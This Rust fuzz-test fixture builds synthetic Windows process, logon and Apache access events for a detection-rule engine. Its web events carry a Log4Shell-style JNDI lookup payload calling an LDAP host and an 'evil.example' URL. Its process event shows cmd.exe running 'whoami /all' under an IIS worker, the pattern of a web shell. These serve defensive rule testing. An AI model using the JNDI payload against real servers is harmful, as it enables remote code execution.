//! A few events of the kinds rules are written for (Windows process and logon, web, auth), shared
//! by the rule-side fuzz targets so that whatever compiles is also evaluated.

use spoor_event::{Event, LogSource, Position, Value};

/// Events with times, so that correlation windows and STIX sequences get exercised.
pub fn sample_events() -> Vec<Event> {
    let mut out = Vec::new();
    for i in 0..12i64 {
        let mut proc_ev = Event::new("sysmon.evtx", Position::Record(i as u64 + 1))
            .with_logsource(LogSource::new(
                Some("windows"),
                Some("process_creation"),
                Some("sysmon"),
            ))
            .with("EventID", 1i64)
            .with("Image", r"C:\Windows\System32\cmd.exe")
            .with("CommandLine", "cmd.exe /c whoami /all")
            .with("ParentImage", r"c:\windows\system32\inetsrv\w3wp.exe")
            .with("User", "NT AUTHORITY\\SYSTEM");
        proc_ev.timestamp = chrono::DateTime::from_timestamp(1_720_000_000 + i * 7, 0);
        out.push(proc_ev);
        let mut logon = Event::new("security.evtx", Position::Record(100 + i as u64))
            .with_logsource(LogSource::new(Some("windows"), None, Some("security")))
            .with("EventID", if i < 10 { 4625i64 } else { 4624 })
            .with("TargetUserName", format!("user{}", i % 4))
            .with("IpAddress", "203.0.113.80")
            .with("LogonType", 3i64);
        logon.timestamp = chrono::DateTime::from_timestamp(1_720_000_000 + i * 5, 0);
        out.push(logon);
        let mut web = Event::new("access.log", Position::Line(i as u64 + 1))
            .with_logsource(LogSource::new(Some("apache"), Some("webserver"), None))
            .with("c-ip", format!("198.51.100.{i}"))
            .with("cs-method", "GET")
            .with("cs-uri-stem", format!("/p{i}.php"))
            .with("cs-uri-query", "x=${jndi:ldap://203.0.113.9/a}")
            .with("sc-status", 404i64)
            .with("sc-bytes", Value::Int(1_000_000 * i))
            .with("url", "http://evil.example/a.jsp")
            .with("file.hash.md5", "d41d8cd98f00b204e9800998ecf8427e");
        web.raw = Some(format!("198.51.100.{i} - - GET /p{i}.php 404").into());
        web.timestamp = chrono::DateTime::from_timestamp(1_720_000_000 + i, 0);
        out.push(web);
    }
    out
}
